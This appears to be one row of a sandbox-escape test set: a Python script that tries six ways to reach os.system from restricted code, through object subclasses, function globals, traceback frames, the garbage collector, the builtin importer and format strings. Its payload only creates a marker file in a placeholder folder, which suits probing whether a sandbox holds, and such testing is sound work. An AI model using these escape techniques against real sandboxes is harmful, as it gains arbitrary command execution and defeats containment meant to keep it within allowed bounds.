#: row: 93 the way to a module of the machine through the classes and frames that every object leads to
#: ended: completed
#: value: 'tried'
command = "touch @FOLDER@/made"

def through_classes():
    for one in ().__class__.__base__.__subclasses__():
        try:
            one.__init__.__globals__["system"](command)
        except Exception:
            pass
def through_modules():
    for one in ().__class__.__base__.__subclasses__():
        try:
            one.__init__.__globals__["sys"].modules["os"].system(command)
        except Exception:
            pass
def through_frames():
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame:
            try:
                frame.f_builtins["__import__"]("os").system(command)
            except Exception:
                pass
            frame = frame.f_back
def through_the_collector():
    import gc
    for one in gc.get_objects():
        if isinstance(one, dict) and callable(one.get("system")):
            one["system"](command)
def through_loaders():
    for one in ().__class__.__base__.__subclasses__():
        if one.__name__ == "BuiltinImporter":
            one.load_module("posix").system(command)
def through_formatting():
    "{0.__class__.__init__.__globals__[system]}".format(through_classes)

for way in [through_classes, through_modules, through_frames, through_the_collector, through_loaders, through_formatting]:
    try:
        way()
    except Exception:
        pass
"tried"
